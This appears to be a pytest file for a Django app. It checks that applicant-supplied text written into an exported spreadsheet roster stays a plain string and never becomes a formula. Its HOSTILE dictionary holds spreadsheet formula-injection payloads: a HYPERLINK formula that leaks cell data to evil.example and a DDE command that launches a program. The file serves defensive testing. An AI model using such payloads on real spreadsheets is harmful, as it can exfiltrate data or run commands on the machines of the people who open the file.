"""Issue 11 point 12: text an applicant controls never runs as a formula in a spreadsheet we write."""

from __future__ import annotations

import io

import openpyxl
import pytest

from accounts.models import Role, RoleAssignment
from documents.roster import write_roster
from dossiers.models import DossierSection
from tests.documents.conftest import make_dossier, walk_to
from tests.factories import UserFactory

pytestmark = pytest.mark.django_db

HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "ethnicity": "=1+1",
    "political_status": "=cmd|' /C calc'!A0",
    "unit_reminder": "\x01\x07control",
}


def test_roster_cells_an_applicant_controls_are_plain_strings(open_round, orgs):
    unit = orgs["U-KRLJT"]
    user = UserFactory()
    RoleAssignment.objects.create(user=user, role=Role.APPLICANT, organization=unit)
    dossier = make_dossier(round_=open_round, applicant=user, unit=unit, with_photo=False)
    section = DossierSection.objects.get(dossier=dossier, key="basic_info")
    section.data = {
        **section.data,
        "name": HOSTILE["name"],
        "ethnicity": HOSTILE["ethnicity"],
        "political_status": HOSTILE["political_status"] + HOSTILE["unit_reminder"],
    }
    section.save()
    walk_to(dossier)

    out = io.BytesIO()
    assert write_roster(round_=open_round, organization=unit, out=out) == 1
    sheet = openpyxl.load_workbook(io.BytesIO(out.getvalue())).active
    row = next(r for r in sheet.iter_rows(min_row=3) if r[0].value == 1)
    name, _sex, ethnicity, political = row[1], row[2], row[3], row[4]
    for cell, typed in [(name, HOSTILE["name"]), (ethnicity, HOSTILE["ethnicity"])]:
        assert cell.data_type == "s", (cell.coordinate, cell.data_type)
        assert cell.value == typed  # kept as typed, only never evaluated
    assert political.data_type == "s"
    assert political.value == HOSTILE["political_status"] + "control"  # control characters dropped
    # Nothing anywhere in the file is a formula.
    assert not [c.coordinate for r in sheet.iter_rows() for c in r if c.data_type == "f"]
